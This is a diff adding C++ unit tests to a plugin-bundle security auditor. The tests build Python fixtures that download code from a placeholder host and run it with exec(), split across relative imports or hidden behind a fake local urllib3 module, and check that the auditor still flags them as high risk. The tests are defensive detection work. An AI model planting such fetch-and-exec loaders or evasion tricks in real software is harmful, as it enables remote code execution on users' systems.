@@ -79,6 +79,42 @@ TEST(BundleAudit, RefusesWhatIsNotReadWhole) {
   EXPECT_EQ(check_risk(exhausted, 0.7).error().code, Code::kTooRisky);
 }
 
+// The modules of a bundle form one package, whatever their directories are.
+TEST(BundleAudit, FollowsWhatModulesImportFromOneAnother) {
+  const std::string fetch =
+      "import urllib3\n\n\n"
+      "def fetch():\n"
+      "    return urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py').data\n";
+  const auto risk = [](const Files& files) {
+    const auto report = audit_files(files, "night-watch");
+    EXPECT_TRUE(report);
+    return report ? report->whole.security_risk.value : 0;
+  };
+  const auto watch = [](const std::string& import, const std::string& call) {
+    return import + "\n\n\nclass Watch:\n    def start(self, scheduler):\n        exec(" + call + ")\n";
+  };
+  EXPECT_GT(risk({{"watch.py", watch("from .parts import fetch", "fetch()")}, {"parts.py", fetch}}), 0.7);
+  EXPECT_GT(risk({{"watch.py", watch("from . import parts", "parts.fetch()")}, {"parts.py", fetch}}), 0.7);
+  EXPECT_GT(risk({{"watch.py", watch("from .deep.parts import fetch", "fetch()")}, {"deep/parts.py", fetch}}),
+            0.7);
+  EXPECT_GT(risk({{"watch.py", watch("from .deep import parts", "parts.fetch()")},
+                  {"deep/__init__.py", ""},
+                  {"deep/parts.py", fetch}}),
+            0.7);
+  EXPECT_GT(risk({{"a/watch.py", watch("from ..b.parts import fetch", "fetch()")}, {"b/parts.py", fetch}}),
+            0.7);
+}
+
+// `import urllib3` is never a bundle's own urllib3.py.
+TEST(BundleAudit, IsNotDeceivedByModulesThatAreCalledLikeOthers) {
+  Files files = kRisky;
+  files["urllib3.py"] =
+      "class PoolManager:\n    def request(self, method, url):\n        return self\n\n    data = '1'\n";
+  const auto report = audit_files(files, "night-watch");
+  ASSERT_TRUE(report);
+  EXPECT_GT(report->whole.security_risk.value, 0.7);
+}
+
 // By the rules of whoever verifies: what the manifest says of the risk is not believed.
 TEST(BundleAudit, ExaminesTheFilesThatWereVerified) {
   const trust::PrivateKey key = trust::key('a');
